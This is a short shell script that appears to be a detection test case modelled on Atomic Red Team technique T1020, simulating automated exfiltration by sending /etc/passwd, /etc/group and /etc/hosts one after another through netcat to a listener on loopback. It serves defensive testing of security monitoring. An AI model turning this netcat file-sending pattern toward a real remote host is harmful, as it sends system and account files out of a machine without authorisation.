#!/bin/sh
# case: T1020-files-one-by-one
# technique: Files of /etc sent one after another
# source: redcanaryco/atomic-red-team T1020 / T1048
# needs: nc
# expect: net file exec
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need nc
P=$((20000 + $$ % 20000)); (i=0; while [ $i -lt 3 ]; do timeout 3 nc -l -s 127.0.0.1 -p $P >/dev/null 2>&1; i=$((i+1)); done) & L=$!; sleep 1; for f in /etc/passwd /etc/group /etc/hosts; do timeout 2 nc 127.0.0.1 $P < $f >/dev/null 2>&1; sleep 1; done; kill $L 2>/dev/null; wait 2>/dev/null; true
exit 0
